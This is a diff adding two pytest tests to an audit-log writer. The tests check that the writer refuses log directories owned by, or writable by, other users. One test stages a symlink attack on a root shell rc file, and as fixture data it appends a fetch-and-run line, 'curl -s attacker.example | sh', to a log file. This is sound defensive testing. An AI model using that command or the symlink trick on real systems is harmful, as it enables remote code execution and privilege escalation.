@@ -4,6 +4,7 @@ the fact: every change that removes or alters sealed records must make `adl-audi
 from __future__ import annotations
 
 import hashlib
+import os
 import time
 from pathlib import Path
 
@@ -131,3 +132,39 @@ def test_follow_does_not_read_a_file_a_rotation_record_names_outside_the_directo
     captured = capsys.readouterr()
     assert "s3cr3t" not in captured.out
     assert code == 2 and "not the next log file" in captured.err
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="hands the directory to another uid")
+def test_a_directory_another_user_owns_is_refused(tmp_path: Path) -> None:
+    """An operator points the log at a directory another user made first (under /tmp, say). Its
+    owner sets a torn line aside in advance: the next writer (root) moves the torn bytes to
+    torn/<file>.<offset>, which the owner made a symlink to a file root's shell reads."""
+    directory = _sealed_log(tmp_path)
+    victim = tmp_path / "victim-rc"
+    victim.write_text("# root's shell reads this\n")
+    newest = log_files(directory)[-1]
+    kept = newest.read_bytes()
+    # what the directory's owner can do: replace a file of root's by its own copy, plant names
+    os.chown(directory, 65534, 65534)
+    copy = directory / "copy"
+    copy.write_bytes(kept + b"curl -s attacker.example | sh")
+    copy.replace(newest)
+    (directory / "torn").mkdir()
+    (directory / "torn" / f"{newest.name}.{len(kept)}").symlink_to(victim)
+    with pytest.raises(AuditUnavailable, match="owned by uid 65534"):
+        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
+    assert victim.read_text() == "# root's shell reads this\n"
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="hands a directory to another uid")
+def test_a_directory_below_one_another_user_can_write_is_refused(tmp_path: Path) -> None:
+    parent = tmp_path / "shared"
+    parent.mkdir()
+    os.chown(parent, 65534, 65534)  # its owner can rename the log directory away and put its own in place
+    with pytest.raises(AuditUnavailable, match="owned by uid 65534"):
+        AuditWriter(parent / "audit", tmp_path / "key" / "audit.pem").close()
+    group_writable = tmp_path / "group"
+    group_writable.mkdir(mode=0o770)
+    group_writable.chmod(0o770)
+    with pytest.raises(AuditUnavailable, match="writable by group or others"):
+        AuditWriter(group_writable, tmp_path / "key" / "audit.pem").close()
